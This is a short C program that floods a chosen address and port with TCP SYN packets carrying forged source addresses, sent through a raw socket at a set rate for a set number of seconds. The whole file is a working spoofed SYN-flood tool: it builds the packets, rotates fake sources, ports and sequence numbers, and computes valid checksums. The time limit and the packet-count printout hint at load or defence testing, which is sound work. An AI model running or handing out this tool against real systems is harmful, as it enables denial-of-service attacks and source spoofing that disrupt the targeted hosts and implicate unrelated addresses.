/*
 * SYNs from sources that do not exist, by a raw socket: spoof ADDRESS PORT
 * PER-SECOND SECONDS.  Bounded in time; prints how many were sent.
 */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

static double
now(void)
{
    struct timespec time;

    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static uint16_t
folded(const uint8_t *bytes, size_t size, uint32_t sum)
{
    for (size_t i = 0; i < size; i += 2)
        sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
    sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~(sum + (sum >> 16));
}

static void
put(uint8_t *at, uint32_t value, int bytes)
{
    for (int i = 0; i < bytes; i++)
        at[i] = (uint8_t)(value >> 8 * (bytes - 1 - i));
}

int
main(int argc, char **argv)
{
    /* No ID and no checksum of its own: the kernel fills them in. */
    uint8_t packet[44] = {0x45,        [3] = 44, [8] = 64,    [9] = 6,
                          [32] = 0x60, [33] = 2, [34] = 0xff, [40] = 2,
                          4,           5,        0xb4};
    struct sockaddr_in to = {.sin_family = AF_INET};
    int out = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

    if (argc != 5 || out < 0 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
        return 1;
    memcpy(packet + 16, &to.sin_addr, 4);
    put(packet + 22, (uint32_t)atoi(argv[2]), 2);
    double rate = atof(argv[3]), start = now(), end = start + atof(argv[4]);
    uint32_t sent = 0;
    for (double at = start; at < end; at = now()) {
        if (sent >= (at - start) * rate) {
            nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
            continue;
        }
        put(packet + 12, 0x0a000001 + sent, 4);
        put(packet + 20, 1024 + sent % 60000, 2);
        put(packet + 24, sent * 2654435761u, 4);
        put(packet + 36, 0, 2);
        put(packet + 36, folded(packet + 12, 32, 6 + 24), 2);
        if (sendto(out, packet, sizeof packet, 0, (struct sockaddr *)&to,
                   sizeof to) < 0)
            nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
        sent++;
    }
    printf("%u\n", sent);
    return 0;
}
